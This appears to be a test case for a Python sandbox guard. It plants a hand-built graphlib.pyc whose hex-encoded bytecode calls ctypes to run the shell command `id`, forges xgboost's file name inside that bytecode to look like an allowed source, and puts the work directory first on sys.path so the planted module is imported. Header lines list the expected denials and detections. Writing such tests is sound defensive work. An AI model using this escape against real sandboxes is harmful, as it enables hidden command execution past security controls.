# warden-case: h-rt2-sys-path-planted-pyc
# group: H
# technique: a graphlib.pyc planted in the work dir (code under xgboost's file name), the work dir put first on sys.path, then import graphlib (an allowed module)
# variant: other
# expect-static: deny
# expect-rules: IMP101 DYN402
# expect-jail: contained
# expect-runtime: DES804
import os
import sys

import xgboost.core as core

# marshal of `import ctypes; ctypes.CDLL(None).system(b"id")`, compiled elsewhere; its file name is
# spliced in below: xgboost's own file, which may use ctypes
PRE = bytes.fromhex(
    "e30000000000000000000000000300000000000000f3540000009700640064016c005a00020065006a01000000"
    "00000000006401a6010000ab010000000000000000a00200000000000000000000000000000000000000006402"
    "a6010000ab0100000000000000000100640153002903e9000000004e730200000069642903da06637479706573"
    "da0443444c4cda0673797374656da900f300000000"
)
POST = bytes.fromhex(
    "fa083c6d6f64756c653e7209000000010000007334000000f003010101d8000d800d800d800dd8000b8006840b"
    "8844d10011d40011d70018d200189815d1001fd4001fd0001fd0001fd0001f7207000000"
    ""
)
name = core.__file__.encode()
data = PRE + b"\xda" + bytes([len(name)]) + name + POST
external = sys.modules["_frozen_importlib_external"]
with open("graphlib.pyc", "wb") as fh:
    fh.write(external.MAGIC_NUMBER + bytes(12) + data)
sys.path.insert(0, os.getcwd())
import graphlib  # noqa: E402,F401
